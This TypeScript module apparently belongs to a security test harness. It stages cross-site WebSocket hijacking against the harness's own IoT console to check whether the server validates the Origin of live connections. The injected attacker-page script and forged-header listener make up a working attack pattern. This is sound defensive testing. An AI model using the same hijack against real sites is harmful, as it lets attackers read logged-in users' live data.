import { LIVE_PATH } from "@gatehouse/contract";
import { WebSocket } from "ws";
import { type Attack, given } from "../attack.ts";
import { connect, eventually, loginOf } from "../site/device.ts";
import type { NewDevice, Site } from "../site/site.ts";
import { lure } from "../site/victim-browser.ts";
import { logInAs, type Visitor } from "../site/visitor.ts";

const VALUE = 21.625;
const LISTEN_MS = 10_000;
const WATCH = JSON.stringify({ op: "watch", values: "all", details: [] });

/** A device that goes on saying one value until it is stopped. */
async function startTalking(site: Site, device: NewDevice): Promise<() => Promise<void>> {
  const client = await connect(site.mqttPort, loginOf(device));
  const say = () =>
    client.publish(`gh/${device.name}/up/telemetry`, JSON.stringify({ temperature: VALUE }), { qos: 1 });
  const timer = setInterval(say, 100);
  return async () => {
    clearInterval(timer);
    await client.endAsync();
  };
}

/** What a live connection hears of the value: the frame that holds it, or how it ended. */
function listen(url: string, headers: Readonly<Record<string, string>>): Promise<string> {
  return new Promise((resolve) => {
    const socket = new WebSocket(url, { headers });
    const timer = setTimeout(() => socket.terminate(), LISTEN_MS);
    socket.on("open", () => socket.send(WATCH));
    socket.on("message", (data) => {
      const text = String(data);
      if (!text.includes(String(VALUE))) return;
      resolve(text);
      socket.close();
    });
    socket.on("error", (error) => resolve(error.message));
    socket.on("close", () => {
      clearTimeout(timer);
      resolve("closed");
    });
  });
}

const liveUrl = (site: Site): string => `${site.url.replace(/^http/, "ws")}${LIVE_PATH}`;

const ownPage = (site: Site, visitor: Visitor) => ({
  cookie: visitor.cookieHeader,
  origin: new URL(site.url).origin,
});

export const wsHijack: Attack = {
  name: "ws-hijack",
  control: "upgradeOrigin",
  texts: {
    en: {
      title: "Listen in through a WebSocket",
      what: "An operator is logged in to the console and reads a forum under the same domain. A page there opens the console's live connection. Browsers do so for any page without asking, and send the cookies along.",
      steps: [
        "The console's own page hears what a device says",
        "The operator opens the attacker's page",
        "Read what the page has heard",
      ],
      control: "Origin of live connections",
      measured: "The attacker's page has heard a reading of the device.",
    },
    fr: {
      title: "Écouter par un WebSocket",
      what: "Un opérateur est connecté à la console et lit un forum sous le même domaine. Une page y ouvre la connexion en direct de la console. Les navigateurs le font pour toute page sans demander, et joignent les cookies.",
      steps: [
        "La page de la console entend ce que dit un appareil",
        "L’opérateur ouvre la page de l’attaquant",
        "Lire ce que la page a entendu",
      ],
      control: "Origine des connexions en direct",
      measured: "La page de l’attaquant a entendu une mesure de l’appareil.",
    },
  },
  async run(site, report) {
    const device = await site.addDevice("thermometer");
    const operator = await logInAs(site, await site.addPerson("operator"));
    const stopTalking = await startTalking(site, device);
    try {
      report.step(0);
      const own = await eventually(
        () => listen(liveUrl(site), ownPage(site, operator)),
        (text) => text.includes(device.id),
      );
      given(own.includes(device.id), "the console's own page hears the device");
      report.site(`the console's page: ${own.slice(0, 120)}`);
      report.step(1);
      const { told, browser } = await lure(site, operator, {
        script: `const socket = new WebSocket(site.replace(/^http/, "ws") + ${JSON.stringify(LIVE_PATH)});
          socket.onopen = () => socket.send(${JSON.stringify(WATCH)});
          socket.onmessage = ({ data }) => { if (data.includes("${VALUE}")) tell(data); };
          socket.onclose = ({ code }) => tell("closed " + code);`,
        forge: (headers) => listen(liveUrl(site), headers),
      });
      report.step(2);
      report.attacker(`the forum's page: ${told.slice(0, 120)}`);
      const heard = told.includes(device.id) && told.includes(String(VALUE));
      return { succeeded: heard, evidence: { answer: told.slice(0, 60), browser } };
    } finally {
      await stopTalking();
    }
  },
};
